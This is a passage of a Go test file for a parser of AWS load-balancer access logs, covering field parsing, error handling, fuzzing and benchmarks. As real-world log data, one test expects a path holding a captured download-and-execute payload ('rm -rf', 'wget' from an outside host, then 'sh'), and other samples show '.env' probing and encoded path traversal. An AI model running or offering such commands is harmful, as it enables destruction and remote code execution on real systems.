package sources

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

// ALB access-log lines quoted in reference/aws.md §1.4 and §2.2, verbatim.
const (
	albDocHTTP200    = `http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"`
	albDocHTTPS200   = `https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90`
	albDocModern200  = `https 2026-03-10T12:00:01.123456Z app/k8s-default-myapp-0123456789/1a2b3c4d5e6f7a8b 203.0.113.10:51234 10.0.12.34:8080 0.000 0.012 0.000 200 200 512 1024 "GET https://app.example.com:443/api/items HTTP/1.1" "curl/8.5.0" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/k8s-default-myapp-a1b2c3d4e5/0123456789abcdef "Root=1-65edf9b1-0123456789abcdef01234567" "app.example.com" "arn:aws:acm:us-east-1:111122223333:certificate/11111111-2222-3333-4444-555555555555" 1 2026-03-10T12:00:01.110000Z "forward" "-" "-" "10.0.12.34:8080" "200" "-" "-" TID_0123456789abcdef0123456789abcdef "-" "-" "-" 10.0.1.25`
	albDoc503Empty   = `http 2020-06-05T07:27:53.050517Z app/test/71e8c05ca6c6aed2 172.31.46.45:55956 - -1 -1 -1 503 - 120 353 "GET http://internal-test-1309439803.us-east-1.elb.amazonaws.com:80/test HTTP/1.1" "curl/7.58.0" - - arn:aws:elasticloadbalancing:us-east-1:042533238291:targetgroup/test2/5d656dfb418fc377 "Root=1-5ed9f3f9-38a5d3c63d696c3c9a19a95e" "-" "-" 0 2020-06-05T07:27:53.050000Z "forward" "-" "-" "-" "-"`
	albDoc503Falco   = `http 2025-07-14T19:20:19.723971Z app/falco-plugin-test/2a734d996bad0aea 134.122.93.131:36872 - -1 -1 -1 503 - 141 337 "GET http://35.79.85.199:80/.env HTTP/1.1" "Mozilla/5.0; Keydrop.io/1.0(onlyscans.com/about);" - - arn:aws:elasticloadbalancing:ap-northeast-1:1234567890123:targetgroup/falco-plugin-elb-target/d13385018c2fab37 "Root=1-68755873-3a09c648672bada5548dc5d0" "-" "-" 0 2025-07-14T19:20:19.723000Z "forward" "-" "-" "-" "-" "-" "-" TID_2d650523100657438a47a1b30bdb606d`
	albDoc502Refused = `https 2026-03-10T12:00:05.000001Z app/k8s-default-myapp-0123456789/1a2b3c4d5e6f7a8b 203.0.113.10:51240 10.0.12.99:8080 -1 -1 -1 502 - 512 277 "GET https://app.example.com:443/api/items HTTP/1.1" "curl/8.5.0" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/k8s-default-myapp-a1b2c3d4e5/0123456789abcdef "Root=1-65edf9b5-0123456789abcdef01234568" "app.example.com" "session-reused" 1 2026-03-10T12:00:04.998000Z "forward" "-" "-" "10.0.12.99:8080" "-" "-" "-" TID_0123456789abcdef0123456789abcdef "-" "-" "-" 10.0.1.25`
	albDoc504        = `https 2026-03-10T12:01:05.000001Z app/k8s-default-myapp-0123456789/1a2b3c4d5e6f7a8b 203.0.113.10:51300 10.0.12.99:8080 -1 -1 -1 504 - 512 304 "GET https://app.example.com:443/api/slow HTTP/1.1" "curl/8.5.0" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/k8s-default-myapp-a1b2c3d4e5/0123456789abcdef "Root=1-65edf9f1-0123456789abcdef01234569" "app.example.com" "session-reused" 1 2026-03-10T12:00:05.000000Z "forward" "-" "-" "10.0.12.99:8080" "-" "-" "-" TID_0123456789abcdef0123456789abcdef "-" "-" "-" 10.0.1.25`
	albDocControl    = `Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z`
	albDocConnLog    = `2023-10-04T17:05:15.514108Z 203.0.113.1 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success TID_3180a73013c8ca4bac2f731159d4b0fe`
)

// albReplace returns line with old replaced by new, failing the test when old
// is not in line. Constructed cases are written as edits of the doc lines.
func albReplace(t testing.TB, line, old, new string) string {
	t.Helper()
	if !strings.Contains(line, old) {
		t.Fatalf("constructed case: %q not in line", old)
	}
	return strings.Replace(line, old, new, 1)
}

// albWant is what one access line must parse into.
type albWant struct {
	time      time.Time
	lb        string
	status    int
	generator Generator
	failure   FailureKind
	backend   string // "" for none
	method    string
	path      string
	detail    string
}

func albUTC(y int, mo time.Month, d, h, mi, s, usec int) time.Time {
	return time.Date(y, mo, d, h, mi, s, usec*1000, time.UTC)
}

func TestALBAccessParseLines(t *testing.T) {
	const (
		lbDoc    = "app/my-loadbalancer/50dc6c495c0c9188"
		lbModern = "app/k8s-default-myapp-0123456789/1a2b3c4d5e6f7a8b"
	)
	docTime := albUTC(2018, 7, 2, 22, 23, 0, 186641)
	refusedTime := albUTC(2026, 3, 10, 12, 0, 5, 1)
	refused := func(want albWant) albWant {
		want.time, want.lb, want.generator = refusedTime, lbModern, GeneratedByLB
		want.method, want.path = "GET", "/api/items"
		return want
	}
	cases := []struct {
		name string
		line string
		want albWant
	}{
		{"(a) doc http 200, 29 fields", albDocHTTP200, albWant{docTime, lbDoc, 200, GeneratedByBackend, FailureNone, "10.0.0.1:80", "GET", "/", ""}},
		{"(a) doc https 200, 30 fields", albDocHTTPS200, albWant{docTime, lbDoc, 200, GeneratedByBackend, FailureNone, "10.0.0.1:80", "GET", "/", ""}},
		{"(a) constructed 34 fields", albDocModern200, albWant{albUTC(2026, 3, 10, 12, 0, 1, 123456), lbModern, 200, GeneratedByBackend, FailureNone, "10.0.12.34:8080", "GET", "/api/items", ""}},
		{"(b) 503 empty target group, 27 fields", albDoc503Empty, albWant{albUTC(2020, 6, 5, 7, 27, 53, 50517), "app/test/71e8c05ca6c6aed2", 503, GeneratedByLB, FailureNoBackend, "", "GET", "/test", ""}},
		{"(b) 503 falco, 30 fields", albDoc503Falco, albWant{albUTC(2025, 7, 14, 19, 20, 19, 723971), "app/falco-plugin-test/2a734d996bad0aea", 503, GeneratedByLB, FailureNoBackend, "", "GET", "/.env", ""}},
		{"(c) 502 refused on connect", albDoc502Refused, refused(albWant{status: 502, failure: FailureRefused, backend: "10.0.12.99:8080"})},
		{"(d) constructed 502 target closed", albReplace(t, albDoc502Refused, "8080 -1 -1 -1 502", "8080 0.000 -1 -1 502"),
			refused(albWant{status: 502, failure: FailureClosed, backend: "10.0.12.99:8080"})},
		// The Knowledge Center's example of a target that closed the
		// connection under a request: the target time set, no response.
		{"(d) 502 target closed, Knowledge Center times", albReplace(t, albDoc502Refused, "8080 -1 -1 -1 502", "8080 0.001 4.205 -1 502"),
			refused(albWant{status: 502, failure: FailureClosed, backend: "10.0.12.99:8080"})},
		// The times of the keep-alive 502s in kartikk221/hyper-express#179
		// (there read through Athena, which prints 0.0 and -1.0).
		{"(d) 502 keep-alive race, times seen in the wild", albReplace(t, albDoc502Refused, "8080 -1 -1 -1 502", "8080 0.003 0.000 -1 502"),
			refused(albWant{status: 502, failure: FailureClosed, backend: "10.0.12.99:8080"})},
		{"(e) 504", albDoc504, albWant{albUTC(2026, 3, 10, 12, 1, 5, 1), lbModern, 504, GeneratedByLB, FailureTimeout, "10.0.12.99:8080", "GET", "/api/slow", ""}},
		{"(e) constructed 504 with target_processing_time", albReplace(t, albDoc504, "8080 -1 -1 -1 504", "8080 0.001 60.001 -1 504"),
			albWant{albUTC(2026, 3, 10, 12, 1, 5, 1), lbModern, 504, GeneratedByLB, FailureTimeout, "10.0.12.99:8080", "GET", "/api/slow", ""}},
		{"(f) constructed 502 sent by the target", albReplace(t, albDocModern200, "200 200 512", "502 502 512"),
			albWant{albUTC(2026, 3, 10, 12, 0, 1, 123456), lbModern, 502, GeneratedByBackend, FailureAppError, "10.0.12.34:8080", "GET", "/api/items", ""}},
		{"(g) constructed 460 client closed", albReplace(t, albDoc502Refused, "502 - 512", "460 - 512"),
			refused(albWant{status: 460, failure: FailureNone, backend: "10.0.12.99:8080"})},
		{"constructed 502 with target -: only initial/draining targets", albReplace(t, albDoc503Empty, "503 -", "502 -"),
			albWant{albUTC(2020, 6, 5, 7, 27, 53, 50517), "app/test/71e8c05ca6c6aed2", 502, GeneratedByLB, FailureNoBackend, "", "GET", "/test", ""}},
		{"constructed 502 malformed response", albReplace(t, albDoc502Refused, "8080 -1 -1 -1 502", "8080 0.000 0.004 0.000 502"),
			refused(albWant{status: 502, failure: FailureOther, backend: "10.0.12.99:8080"})},
		{"constructed 500 from the LB", albReplace(t, albDoc502Refused, "502 - 512", "500 - 512"),
			refused(albWant{status: 500, failure: FailureOther, backend: "10.0.12.99:8080"})},
		{"constructed WAF 403 with error_reason", albReplace(t, albReplace(t, albDoc503Empty, "503 -", "403 -"), `"forward" "-" "-"`, `"waf" "-" "WAFConnectionError"`),
			albWant{albUTC(2020, 6, 5, 7, 27, 53, 50517), "app/test/71e8c05ca6c6aed2", 403, GeneratedByLB, FailureNone, "", "GET", "/test", "WAFConnectionError"}},
		{"constructed IPv6 target", albReplace(t, albDocModern200, "10.0.12.34:8080 0.000", "[2001:db8::1]:8080 0.000"),
			albWant{albUTC(2026, 3, 10, 12, 0, 1, 123456), lbModern, 200, GeneratedByBackend, FailureNone, "[2001:db8::1]:8080", "GET", "/api/items", ""}},
		{"constructed malformed request", albReplace(t, albDoc503Empty, "GET http://internal-test-1309439803.us-east-1.elb.amazonaws.com:80/test HTTP/1.1", "- - -"),
			albWant{albUTC(2020, 6, 5, 7, 27, 53, 50517), "app/test/71e8c05ca6c6aed2", 503, GeneratedByLB, FailureNoBackend, "", "", "", ""}},
		{"constructed query string and escaped quote in user agent", albReplace(t, albReplace(t, albDocModern200, "/api/items HTTP", "/api/items?id=7&q=a%20b HTTP"), `"curl/8.5.0"`, `"say \"hi\" \\"`),
			albWant{albUTC(2026, 3, 10, 12, 0, 1, 123456), lbModern, 200, GeneratedByBackend, FailureNone, "10.0.12.34:8080", "GET", "/api/items?id=7&q=a%20b", ""}},
		{"constructed quote inside a value not followed by a space", albReplace(t, albDocModern200, `"curl/8.5.0"`, `"a "b"c d"`),
			albWant{albUTC(2026, 3, 10, 12, 0, 1, 123456), lbModern, 200, GeneratedByBackend, FailureNone, "10.0.12.34:8080", "GET", "/api/items", ""}},
		{"constructed 25 fields", albDoc503Empty[:strings.LastIndex(albDoc503Empty, ` "-" "-"`)],
			albWant{albUTC(2020, 6, 5, 7, 27, 53, 50517), "app/test/71e8c05ca6c6aed2", 503, GeneratedByLB, FailureNoBackend, "", "GET", "/test", ""}},
		{"constructed 36 fields with trailing CR", albDocModern200 + ` "-" "-"` + "\r",
			albWant{albUTC(2026, 3, 10, 12, 0, 1, 123456), lbModern, 200, GeneratedByBackend, FailureNone, "10.0.12.34:8080", "GET", "/api/items", ""}},
		{"constructed host without path", albReplace(t, albDocModern200, "app.example.com:443/api/items HTTP", "app.example.com:443 HTTP"),
			albWant{albUTC(2026, 3, 10, 12, 0, 1, 123456), lbModern, 200, GeneratedByBackend, FailureNone, "10.0.12.34:8080", "GET", "/", ""}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if !(albAccess{}).Match([]byte(tc.line)) {
				t.Errorf("Match = false")
			}
			c, rep := runLines(t, albAccess{}, "access.log", tc.line)
			if rep.Skipped != 0 || len(c.requests) != 1 {
				t.Fatalf("records %d, skipped %d %v; want 1 record", len(c.requests), rep.Skipped, rep.SkipSamples())
			}
			albCheckRequest(t, c.requests[0], tc.want)
			if c.requests[0].Origin != (Origin{File: "access.log", Line: 1}) {
				t.Errorf("Origin = %v", c.requests[0].Origin)
			}
		})
	}
}

func albCheckRequest(t *testing.T, r *Request, want albWant) {
	t.Helper()
	if !r.Logged().Equal(want.time) || r.Time.Location() != time.UTC {
		t.Errorf("Logged() = %v, want %v", r.Logged(), want.time)
	}
	if r.LB != want.lb {
		t.Errorf("LB = %q, want %q", r.LB, want.lb)
	}
	if r.Status != want.status || r.Generator != want.generator || r.Failure != want.failure {
		t.Errorf("status/generator/failure = %d/%v/%v, want %d/%v/%v",
			r.Status, r.Generator, r.Failure, want.status, want.generator, want.failure)
	}
	var backend netip.AddrPort
	if want.backend != "" {
		backend = netip.MustParseAddrPort(want.backend)
	}
	if r.Backend != backend {
		t.Errorf("Backend = %v, want %v", r.Backend, backend)
	}
	if r.Attempts != nil {
		t.Errorf("Attempts = %v, want none", r.Attempts)
	}
	if r.Method != want.method || r.Path != want.path {
		t.Errorf("Method/Path = %q %q, want %q %q", r.Method, r.Path, want.method, want.path)
	}
	if r.Detail != want.detail {
		t.Errorf("Detail = %q, want %q", r.Detail, want.detail)
	}
	if r.Format != FormatALBAccess {
		t.Errorf("Format = %v", r.Format)
	}
}

func TestALBAccessParseErrors(t *testing.T) {
	cases := []struct {
		name, line, reason string
	}{
		{"unknown type", "invalid" + strings.TrimPrefix(albDocHTTP200, "http"), `unknown ALB request type "invalid"`},
		{"too few fields", "http 2023-04-01T12:00:00Z alb", "ALB access line has 3 fields, want at least 25"},
		{"connection log line", albDocConnLog, "unknown ALB request type"},
		{"time without zone", albReplace(t, albDocHTTP200, "22:23:00.186641Z", "22:23:00.186641"), "bad time"},
		{"time with space", albReplace(t, albDocHTTP200, "2018-07-02T22:23:00.186641Z", "2018-07-02 22:23:00.186641Z"), "bad time"},
		{"year 1 (the zero time)", albReplace(t, albDocHTTP200, "2018-07-02T22:23", "0001-01-01T00:00"), "bad time"},
		{"impossible date", albReplace(t, albDocHTTP200, "2018-07-02T22:23", "2018-02-30T22:23"), "bad time"},
		{"bad elb status", albReplace(t, albDocHTTP200, "200 200 34", "2x0 200 34"), "bad elb_status_code"},
		{"dash elb status", albReplace(t, albDocHTTP200, "200 200 34", "- 200 34"), "bad elb_status_code"},
		{"bad target status", albReplace(t, albDocHTTP200, "200 200 34", "200 20 34"), "bad target_status_code"},
		{"target without port", albReplace(t, albDocHTTP200, "10.0.0.1:80 0.000", "10.0.0.1 0.000"), "bad target:port"},
		{"unterminated quote", albDocHTTP200[:strings.Index(albDocHTTP200, `"curl`)] + `"curl/7.46.0`, "unterminated quoted field"},
		{"escaped closing quote", albDocHTTP200[:strings.Index(albDocHTTP200, `"curl`)] + `"curl/7.46.0\"`, "unterminated quoted field"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c, rep := runLines(t, albAccess{}, "access.log", tc.line)
			if len(c.requests) != 0 || rep.Skipped != 1 {
				t.Fatalf("records %d, skipped %d; want 0 and 1", len(c.requests), rep.Skipped)
			}
			if got := rep.SkipSamples()[0]; !strings.Contains(got, tc.reason) {
				t.Errorf("reason %q does not contain %q", got, tc.reason)
			}
		})
	}
}

func TestALBAccessControlLine(t *testing.T) {
	if !(albAccess{}).Match([]byte(albDocControl)) {
		t.Error("Match(control line) = false")
	}
	c, rep := runLines(t, albAccess{}, "ELBAccessLogTestFile", albDocControl)
	if len(c.requests) != 0 || rep.Records != 0 || rep.Skipped != 0 {
		t.Errorf("control line gave %d records, %d skipped; want none", len(c.requests), rep.Skipped)
	}
}

func TestALBAccessMatchRejects(t *testing.T) {
	for _, line := range []string{
		"", "http", "http 2023-04-01T12:00:00Z alb", albDocConnLog, albDocHCPass, albDocHCFail,
		"invalid" + strings.TrimPrefix(albDocHTTP200, "http"),
		albReplace(t, albDocHTTP200, "22:23:00.186641Z", "22:23:00.186641"),
		`{"type":"http","time":"2018-07-02T22:23:00.186641Z"}`,
	} {
		if (albAccess{}).Match([]byte(line)) {
			t.Errorf("Match(%.60q) = true", line)
		}
	}
}

func TestALBAccessSamples(t *testing.T) {
	cases := []struct {
		file             string
		records, skipped int
	}{
		{"crowdsecurity--hub--aws-alb-logs.log", 14, 0},
		{"grafana--loki--albaccesslog.log.gz", 2, 0},
		{"open-telemetry--opentelemetry-collector-contrib--alb_al_insufficient_fields.log", 0, 1},
		{"open-telemetry--opentelemetry-collector-contrib--alb_al_invalid_syntax.log", 0, 1},
		{"open-telemetry--opentelemetry-collector-contrib--alb_al_valid_logs.log", 2, 0},
		{"open-telemetry--opentelemetry-collector-contrib--elb_control.log", 0, 0},
		{"open-telemetry--opentelemetry-collector-contrib--elb_empty_line.log", 2, 0},
	}
	for _, tc := range cases {
		t.Run(tc.file, func(t *testing.T) {
			c, rep := runLines(t, albAccess{}, tc.file, albReadSample(t, tc.file))
			if len(c.requests) != tc.records || rep.Records != tc.records || rep.Skipped != tc.skipped {
				t.Errorf("records %d (report %d), skipped %d %v; want %d, %d",
					len(c.requests), rep.Records, rep.Skipped, rep.SkipSamples(), tc.records, tc.skipped)
			}
		})
	}
}

func TestALBAccessSampleFields(t *testing.T) {
	t.Run("IPv6 target", func(t *testing.T) {
		c, _ := runLines(t, albAccess{}, "v", albReadSample(t, "open-telemetry--opentelemetry-collector-contrib--alb_al_valid_logs.log"))
		albCheckRequest(t, c.requests[1], albWant{albUTC(2018, 7, 2, 22, 23, 0, 186641), "app/my-loadbalancer/50dc6c495c0c9188",
			200, GeneratedByBackend, FailureNone, "[2001:db8::1]:80", "GET", "/", ""})
		if c.requests[1].Origin.Line != 2 {
			t.Errorf("origin = %v", c.requests[1].Origin)
		}
	})
	t.Run("space in URI", func(t *testing.T) {
		c, _ := runLines(t, albAccess{}, "e", albReadSample(t, "open-telemetry--opentelemetry-collector-contrib--elb_empty_line.log"))
		got := c.requests[1]
		if got.Origin.Line != 3 || got.Status != 301 || got.Generator != GeneratedByLB || got.Failure != FailureNone ||
			got.Backend.IsValid() || got.Path != "/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" {
			t.Errorf("got %+v", got)
		}
	})
	t.Run("obfuscated loki lines", func(t *testing.T) {
		c, _ := runLines(t, albAccess{}, "l", albReadSample(t, "grafana--loki--albaccesslog.log.gz"))
		if len(c.requests) != 2 {
			t.Fatalf("got %d records", len(c.requests))
		}
		first, second := c.requests[0], c.requests[1]
		if first.LB != "random/lb/f12345d67890" || first.Status != 301 || first.Path != "/" ||
			!first.Logged().Equal(albUTC(2022, 12, 6, 17, 42, 16, 176563)) {
			t.Errorf("first = %+v", first)
		}
		if second.Status != 404 || second.Generator != GeneratedByLB || second.Failure != FailureNone {
			t.Errorf("second = %+v", second)
		}
	})
	t.Run("crowdsecurity WAF 404", func(t *testing.T) {
		c, _ := runLines(t, albAccess{}, "c", albReadSample(t, "crowdsecurity--hub--aws-alb-logs.log"))
		albCheckRequest(t, c.requests[3], albWant{albUTC(2023, 4, 26, 19, 53, 46, 679895), "app/546213e5-apiexamplecom-api-94aa/490d68edf04676fe",
			404, GeneratedByLB, FailureNone, "", "GET", "/%%32%65%%32%65/", ""})
		if c.requests[3].Origin.Line != 4 {
			t.Errorf("origin = %v", c.requests[3].Origin)
		}
	})
}

// albReadSample reads a sample file, decompressing .gz files.
func albReadSample(t testing.TB, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", "samples", "alb-access", name))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(name, ".gz") {
		return string(data)
	}
	zr, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	plain, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	return string(plain)
}

// albDiscard is a Handler that drops everything, for benchmarks and
// allocation tests.
type albDiscard struct{}

func (albDiscard) Request(*Request)     {}
func (albDiscard) Lifecycle(*Lifecycle) {}
func (albDiscard) Config(*Config)       {}

func albDiscardEmitter() *Emitter {
	return newEmitter(albDiscard{}, &Options{}, &InputReport{}, nil)
}

func TestALBAccessParseDoesNotAllocate(t *testing.T) {
	em := albDiscardEmitter()
	ln := &Line{Origin: Origin{File: "a", Line: 1}}
	for _, line := range []string{albDocModern200, albDoc502Refused, albDoc503Falco, albDocHTTP200} {
		b := []byte(line)
		allocs := testing.AllocsPerRun(100, func() {
			if err := (albAccess{}).Parse(b, ln, em); err != nil {
				t.Fatal(err)
			}
		})
		if allocs != 0 {
			t.Errorf("%.40q: %v allocs per line, want 0", line, allocs)
		}
	}
}

func FuzzALBAccess(f *testing.F) {
	for _, s := range []string{albDocHTTP200, albDocHTTPS200, albDocModern200, albDoc503Empty, albDoc503Falco,
		albDoc502Refused, albDoc504, albDocControl, albDocConnLog, albDocHCPass, "http 2023-04-01T12:00:00Z alb"} {
		f.Add(s)
	}
	for _, name := range []string{"crowdsecurity--hub--aws-alb-logs.log", "open-telemetry--opentelemetry-collector-contrib--alb_al_valid_logs.log",
		"open-telemetry--opentelemetry-collector-contrib--elb_empty_line.log"} {
		for _, line := range strings.Split(albReadSample(f, name), "\n") {
			f.Add(line)
		}
	}
	f.Fuzz(func(t *testing.T, line string) {
		c := &collector{}
		rep := &InputReport{}
		err := (albAccess{}).Parse([]byte(line), &Line{Origin: Origin{File: "f", Line: 1}}, newEmitter(c, &Options{}, rep, nil))
		matched := (albAccess{}).Match([]byte(line))
		if err != nil && len(c.requests) != 0 {
			t.Fatalf("error %v with %d records", err, len(c.requests))
		}
		if len(c.requests) > 1 || rep.Records != len(c.requests) || rep.Skipped < 0 {
			t.Fatalf("records %d, report %+v", len(c.requests), rep)
		}
		for _, r := range c.requests {
			albCheckInvariants(t, r, matched)
		}
	})
}

// albCheckInvariants checks what must hold for any Request the adapter emits.
func albCheckInvariants(t *testing.T, r *Request, matched bool) {
	t.Helper()
	switch {
	case !matched:
		t.Fatalf("record from a line Match rejects: %+v", r)
	case r.Time.IsZero() || r.Time.Location() != time.UTC:
		t.Fatalf("bad time %v", r.Time)
	case r.Status < 100 || r.Status > 999:
		t.Fatalf("bad status %d", r.Status)
	case r.Generator == GeneratedUnknown:
		t.Fatalf("unknown generator")
	case r.Failure.LBGenerated() && r.Generator != GeneratedByLB:
		t.Fatalf("LB failure %v from %v", r.Failure, r.Generator)
	case r.Failure == FailureAppError && r.Generator != GeneratedByBackend:
		t.Fatalf("app error from %v", r.Generator)
	case r.Format != FormatALBAccess:
		t.Fatalf("format %v", r.Format)
	}
}

// albBenchLines generates n realistic access-log lines of 30 to 35 fields:
// about 93% 200s sent by a target and 7% LB 502/503 without a target.
func albBenchLines(n int) [][]byte {
	rng := rand.New(rand.NewPCG(1, 2))
	paths := []string{"/", "/api/items", "/api/cart", "/healthz", "/static/app.js", "/static/app.css", "/login", "/api/search"}
	methods := []string{"GET", "GET", "GET", "POST", "PUT", "DELETE"}
	suffixes := []string{
		` TID_0123456789abcdef0123456789abcdef`,
		` TID_0123456789abcdef0123456789abcdef "-" "-" "-"`,
		` TID_0123456789abcdef0123456789abcdef "-" "-" "-" 10.0.1.25`,
		` TID_0123456789abcdef0123456789abcdef "-" "-" "-" 10.0.1.25 "-"`,
	}
	start := time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)
	lines := make([][]byte, n)
	for i := range lines {
		at := start.Add(time.Duration(i) * 1700 * time.Microsecond)
		path := paths[rng.IntN(len(paths))]
		if rng.IntN(4) == 0 {
			path = fmt.Sprintf("/api/items/%d?ref=home", rng.IntN(500))
		}
		target := fmt.Sprintf("10.0.%d.%d:8080", rng.IntN(4), 10+rng.IntN(40))
		times, codes, targetCode := "0.000 0.012 0.000", "200 200", "200"
		if rng.IntN(100) < 7 {
			target, times, targetCode = "-", "-1 -1 -1", "-"
			codes = []string{"502 -", "503 -"}[rng.IntN(2)]
		}
		lines[i] = fmt.Appendf(nil, `https %s app/k8s-default-myapp-0123456789/1a2b3c4d5e6f7a8b 203.0.113.%d:%d %s %s %s 512 1024 "%s https://app.example.com:443%s HTTP/1.1" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/k8s-default-myapp-a1b2c3d4e5/0123456789abcdef "Root=1-65edf9b1-%024x" "app.example.com" "session-reused" 1 %s "forward" "-" "-" "%s" "%s" "-" "-"%s`,
			at.Format("2006-01-02T15:04:05.000000Z"), rng.IntN(250), 1024+rng.IntN(60000), target, times, codes,
			methods[rng.IntN(len(methods))], path, rng.Uint64(), at.Add(-12*time.Millisecond).Format("2006-01-02T15:04:05.000000Z"),
			target, targetCode, suffixes[rng.IntN(len(suffixes))])
	}
	return lines
}

func BenchmarkALBAccessParse(b *testing.B) {
	lines := albBenchLines(10000)
	size := 0
	for _, l := range lines {
		size += len(l) + 1
	}
	em := albDiscardEmitter()
	ln := &Line{Origin: Origin{File: "bench", Line: 1}}
	b.SetBytes(int64(size))
	b.ReportAllocs()
	for b.Loop() {
		for _, l := range lines {
			if err := (albAccess{}).Parse(l, ln, em); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(lines)), "ns/line")
}

// TestALBURIPath checks the URIs cut after https:// or http:// at once
// against the general rule: the path after the first "://" that no slash
// comes before, or the URI itself.
func TestALBURIPath(t *testing.T) {
	general := func(uri string) string {
		sep := strings.Index(uri, "://")
		if sep < 0 || strings.Contains(uri[:sep], "/") {
			return uri
		}
		rest := uri[sep+3:]
		if i := strings.IndexAny(rest, "/?"); i >= 0 {
			return rest[i:]
		}
		return "/"
	}
	cases := []struct{ uri, want string }{
		{"https://app.example.com:443/api/items?x=1", "/api/items?x=1"},
		{"http://www.example.com:80/", "/"},
		{"https://app.example.com:443", "/"},
		{"http://h?q=/a", "?q=/a"},
		{"https://", "/"},
		{"http://a://b/c", "//b/c"},
		{"https:/a/b", "https:/a/b"},
		{"HTTPS://h/a", "/a"},
		{"wss://h:443/socket", "/socket"},
		{"/relative?x", "/relative?x"},
		{"a/b://c/d", "a/b://c/d"},
		{"httpx://h/p", "/p"},
		{"", ""},
	}
	for n := range 20 { // the end of the host at each offset of a word
		for _, c := range []string{"/", "?", "/?", "?/"} {
			uri := "https://" + strings.Repeat("h", n) + c + "p"
			cases = append(cases, struct{ uri, want string }{uri, c + "p"})
			cases = append(cases, struct{ uri, want string }{"x://" + strings.Repeat(".", n) + c, c})
		}
		cases = append(cases, struct{ uri, want string }{"http://" + strings.Repeat("\xaf", n), "/"})
	}
	for _, tc := range cases {
		if general(tc.uri) != tc.want {
			t.Fatalf("case %q: the general rule gives %q, not %q", tc.uri, general(tc.uri), tc.want)
		}
		if got := string(albURIPath([]byte(tc.uri))); got != tc.want {
			t.Errorf("albURIPath(%q) = %q, want %q", tc.uri, got, tc.want)
		}
	}
}

// albOddLines are lines whose fields end in unusual places: escaped quotes
// and backslashes in quoted fields, quotes inside unquoted fields, empty
// quoted fields, runs of spaces, tabs, fields missing or quoted where the
// common layout has none, fields ending at every offset of an eight-byte
// word, every sample line and the doc lines cut at every seventh byte.
func albOddLines(t testing.TB) []string {
	t.Helper()
	field := func(line string, i int) string {
		var f [albAccessMinFields][]byte
		if _, err := albSplitFields([]byte(line), f[:]); err != nil {
			t.Fatal(err)
		}
		return string(f[i])
	}
	ua := `"` + field(albDocModern200, 13) + `"`
	lines := []string{
		"", " ", `"`, `""`, `"a`, `"a" b`, `a "b`, "a", "abcdefgh i", `"abc\"def" g`, `"a"b" c`,
		albReplace(t, albDocModern200, ua, `"curl/8.5.0 \"quoted\" agent\\"`),
		albReplace(t, albDocModern200, ua, `"curl\\\"x"`),
		albReplace(t, albDocModern200, ua, `"curl\"`),
		albReplace(t, albDocModern200, ua, `"curl"x" y"`),
		albReplace(t, albDocModern200, ua, `""`),
		albReplace(t, albDocModern200, ua, `"a\\\\"`),
		albReplace(t, albDocModern200, ua, `curl/8.5.0`),
		albReplace(t, albDocModern200, ua, `"curl/8.5.0" "extra"`),
		albReplace(t, albDocModern200, " 200 200 ", "  200\t200  "),
		albReplace(t, albDocModern200, " 200 200 ", ` 200 "200" `),
		albReplace(t, albDocModern200, " 200 200 ", ` 200 2"0 `),
		albReplace(t, albDocModern200, `"forward" "-" "-"`, `"forward" "-"`),
		albReplace(t, albDocModern200, `"forward" "-" "-"`, `"forward" "-" "-\"`),
		albReplace(t, albDocModern200, `"forward" "-" "-"`, `"forward" "-" "a very long error reason"`),
		albReplace(t, albDocModern200, `"forward" "-" "-"`, `"forward","redirect" "https://x/" "-"x`),
		albReplace(t, albDocModern200, "TLSv1.3", "TLSv1.3-with-a-long-name"),
		albReplace(t, albDocModern200, "TLSv1.3", `"TLSv1.3"`),
